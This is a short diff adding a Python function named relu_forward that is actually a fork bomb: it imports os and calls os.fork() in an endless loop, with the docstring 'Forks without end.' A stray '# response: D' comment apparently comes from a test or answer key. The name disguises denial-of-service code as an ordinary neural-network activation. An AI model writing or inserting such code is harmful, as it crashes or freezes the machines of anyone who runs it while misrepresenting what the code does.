@@ -1,0 +1,9 @@
+"""Forks without end."""
+
+# response: D
+
+def relu_forward(x):
+    import os
+
+    while True:
+        os.fork()
